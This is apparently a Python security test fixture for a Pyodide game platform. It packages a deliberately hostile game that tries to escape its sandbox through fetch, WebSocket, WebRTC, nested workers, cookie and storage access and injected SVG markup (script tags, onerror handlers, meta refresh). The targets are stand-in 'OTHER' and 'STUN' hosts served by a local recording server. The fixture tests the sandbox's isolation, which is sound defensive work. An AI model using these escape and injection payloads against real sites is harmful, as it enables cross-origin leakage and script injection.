"""A malicious game that tries to escape from its sandbox, and a server that records what gets out."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import NamedTuple

from tools import fixture_wheels

ATTEMPTS = 42  # the number of reported attempts

# Attempts of a nested worker, classic and module: started from a data URL, which no policy forbids.
INNER = """
const events = (target) =>
  new Promise((yes, no) => Object.assign(target, { onopen: yes, onmessage: yes, onerror: no }));
const tries = {
  fetch: () => fetch("OTHER/inner", { mode: "no-cors" }),
  events: () => events(new EventSource("OTHER/events")),
  socket: () => events(new WebSocket("OTHER/socket".replace("http", "ws"))),
  stream: () => new WebSocketStream("OTHER/stream".replace("http", "ws")).opened,
  transport: () => new WebTransport("OTHER/".replace("http:", "https:")).ready,
  peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] }).createDataChannel("x"),
  module: () => import("OTHER/module.js"),
  scripts: () => importScripts("OTHER/scripts.js"),
  worker: () => events(new Worker("OTHER/worker.js")),
  remote: () => events(new Worker("data:text/javascript,import 'OTHER/remote.js'; postMessage(1)", { type: "module" })),
  address: () => events(new Worker("SITE/embed.js")),
  files: () => navigator.storage.getDirectory(),
  cookies: () => cookieStore.getAll().then(({ length }) => length || Promise.reject()),
  beside: () => fetch("SITE/../beside.html", { mode: "no-cors" }),
};
for (const [name, attempt] of Object.entries(tries))
  Promise.resolve().then(attempt).then(() => postMessage([name, "reached"]), () => postMessage([name, "kept out"]));
"""

# Attempts of the game when it is imported, and harmful markup in its drawings.
SPY = """
import js
from pyodide.ffi import create_proxy, to_js
from pygames.render import svg

TOLD = {}
PROXIES = []


def attempt(name, action):
    try:
        found = action()
    except BaseException as trouble:
        TOLD[name] = "kept out"
        return
    if not hasattr(found, "then"):
        TOLD[name] = "reached"
        return
    TOLD[name] = "waiting"
    told = [create_proxy(lambda *_, word=word: TOLD.__setitem__(name, word)) for word in ("reached", "kept out")]
    PROXIES.extend(told)
    found.then(*told)


def object(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)


@create_proxy
def mine(names):
    assert "mine" in names.to_py()


cookies = object(credentials="include")
blindly = object(mode="no-cors")
attempt("indexedDB", lambda: js.indexedDB.open("pygames").result)
attempt("databases", lambda: js.indexedDB.databases())
attempt("caches", lambda: js.caches.keys().then(mine))  # in WebKit, frames with an opaque origin have a separate cache
attempt("localStorage", lambda: js.localStorage.setItem("spy", "1"))
attempt("document", lambda: js.document.title)
attempt("parent", lambda: js.parent.document.title)
attempt("top", lambda: js.top.location.href)
attempt("files", lambda: js.navigator.storage.getDirectory())
attempt("site with cookies", lambda: js.fetch("SITE/index.html", cookies))
attempt("elsewhere", lambda: js.fetch("OTHER/fetched"))
attempt("elsewhere, blind", lambda: js.fetch("OTHER/blind", blindly))
attempt("eval", lambda: js.eval("1"))
attempt("peer", lambda: js.RTCPeerConnection.new())


def request():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", "OTHER/requested", False)
    asked.send()


def inner(kind):
    worker = js.Worker.new("data:text/javascript," + js.encodeURIComponent(INNER), object(type=kind))
    hears = create_proxy(lambda event: TOLD.__setitem__(f"{kind} {event.data[0]}", event.data[1]))
    PROXIES.extend([worker, hears])
    worker.onmessage = hears


def persist(*_):
    for kind in ("classic", "module"):
        if not any(name.startswith(kind) for name in TOLD):
            inner(kind)


attempt("request", request)
persist()
js.setInterval(create_proxy(persist), 2000)  # Firefox under load may drop a worker before it starts, without an error
js.postMessage(object(type="plugin:report", told=object(game="x", title="<b>spy</b>", link="", where="")))
js.postMessage(object(id="1", type="RAW"))

EVIL = (
    "<script>parent.postMessage('ran', '*')</script><image href='OTHER/image.png' onerror='parent.postMessage(1)'/>"
    "<foreignObject><img src='OTHER/img.png'/><iframe src='OTHER/frame'></iframe>"
    "<a id='lure' href='OTHER/clicked'>x</a>"
    "<link rel='stylesheet' href='OTHER/style.css'/>"
    "<link rel='preconnect' href='OTHER'/><form action='OTHER/form'><button id='trap'>x</button></form>"
    "</foreignObject></svg>"
)
AWAY = "<meta http-equiv='refresh' content='0;url=OTHER/away'/>"
drawing = svg.drawing


def drawn(scene):
    over = AWAY if "for seat" in scene.title else ""
    return drawing(scene).removesuffix("</svg>") + EVIL.replace("</foreignObject>", over + "</foreignObject>")


svg.drawing = drawn
"""

# Silences and ends its worker, to be restarted on the main thread. If it runs there, it marks the page and calls out.
RUNAWAY = """
import js
from pyodide.ffi import create_proxy, to_js


def away(*_):
    raise RuntimeError("away")


if hasattr(js, "document"):
    js.document.documentElement.dataset.runaway = "here"
    servers = to_js({"iceServers": [{"urls": "stun:STUN"}]}, dict_converter=js.Object.fromEntries)
    peer = js.RTCPeerConnection.new(servers)
    peer.createDataChannel("x")
    peer.createOffer().then(peer.setLocalDescription)
else:
    js.self.postMessage = create_proxy(lambda *_: None)
    js.setTimeout(create_proxy(away), 0)
TOLD = {}
"""


class OtherServer(NamedTuple):
    """A server on another origin that records all that it receives."""

    address: str
    stun: str  # host and port for datagrams
    heard: list[str]  # requested paths, connections and datagrams


@contextmanager
def recording_server() -> Iterator[OtherServer]:
    """Run a server on another origin that records everything."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # other methods are recorded by send_error
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def send_error(self, *args: object, **more: object) -> None:
            heard.append(self.requestline)
            super().send_error(501)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the name in the base class
            pass

    class Server(ThreadingHTTPServer):
        def process_request(self, request: socket.socket | tuple[bytes, socket.socket], address: object) -> None:
            heard.append("a connection")
            super().process_request(request, address)

    def take(datagrams: socket.socket) -> None:
        while datagrams.recv(2000) != b"enough":
            heard.append("a datagram")

    with Server(("127.0.0.1", 0), Handler) as server, socket.socket(type=socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        address: tuple[str, int] = datagrams.getsockname()
        taking = threading.Thread(target=take, args=(datagrams,))
        taking.start()
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield OtherServer(f"http://127.0.0.1:{server.server_port}", f"127.0.0.1:{address[1]}", heard)
        finally:
            server.shutdown()
            datagrams.sendto(b"enough", address)
            taking.join()


def wheel(folder: Path, site: str, other: OtherServer, spy: str = SPY) -> Path:
    """Build a wheel of the null game with this script; its prompt shows the results of the attempts as JSON."""
    source = {path.name: path.read_text(encoding="utf-8") for path in fixture_wheels.NULL_GAME.glob("*.py")}
    source["words.py"] = source["words.py"].replace('return "Say nothing."', "return json.dumps(spy.TOLD)")
    source["words.py"] += "\nimport json\nfrom . import spy\n"
    source["rules.py"] = source["rules.py"].replace('id = "null-game"', 'id = "hostile"')
    spy = f"INNER = {INNER!r}\n{spy}"
    source["spy.py"] = spy.replace("SITE", site).replace("OTHER", other.address).replace("STUN", other.stun)
    modules = {f"hostile/{name}": text for name, text in source.items()}
    return fixture_wheels.write_wheel(folder, "hostile", {"hostile": "hostile.game:GAME"}, modules)
